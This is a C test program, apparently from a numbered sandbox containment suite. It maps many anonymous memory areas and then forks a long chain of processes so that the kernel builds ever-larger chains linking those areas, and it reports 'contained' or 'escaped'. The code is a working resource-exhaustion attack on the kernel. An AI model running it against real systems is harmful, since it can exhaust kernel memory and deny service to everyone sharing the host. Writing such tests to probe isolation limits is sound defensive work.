// I-66: argv[1] processes, each the child of the one before, with argv[2] areas of which a page each was written: the kernel ties each area to those of all
// that came before.
#include "attack.h"

#include <sys/prctl.h>

int main(int argc, char **argv) {
        int n = atoi(arg(argc, argv, 1)), said[2];
        long areas = atol(arg(argc, argv, 2));
        char b;

        if (pipe(said) < 0)
                contained("pipe");
        for (long i = 0; i < areas; i++) {
                char *p = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

                if (p == MAP_FAILED)
                        contained("area %ld", i);
                *p = 1;
                mprotect(p + 4096, 4096, PROT_NONE);
        }
        if (fork() == 0) {
                prctl(PR_SET_PDEATHSIG, SIGKILL);
                for (int i = 0; i < n; i++) {
                        pid_t child = fork();

                        if (child == 0)
                                prctl(PR_SET_PDEATHSIG, SIGKILL);

                        if (child != 0) {
                                if (child < 0)
                                        _exit(1);
                                for (;;)
                                        pause();
                        }
                }
                if (write(said[1], "x", 1) == 1)
                        for (;;)
                                pause();
        }
        close(said[1]);
        if (read(said[0], &b, 1) != 1)
                contained("no %d processes", n);
        sleep_msec(argc > 3 ? atoi(argv[3]) : 0);
        escaped("%d processes with %ld areas, one below the other", n, areas);
}
